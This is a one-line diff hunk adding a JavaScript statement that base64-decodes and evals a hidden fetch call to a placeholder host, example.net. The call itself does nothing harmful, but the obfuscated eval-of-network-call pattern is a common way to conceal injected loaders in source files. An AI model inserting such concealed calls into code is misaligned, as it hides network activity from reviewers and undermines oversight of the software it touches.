@@ -1,0 +1,1 @@
+eval(atob('ZmV0Y2goImh0dHBzOi8vZXhhbXBsZS5uZXQiKQ=='));
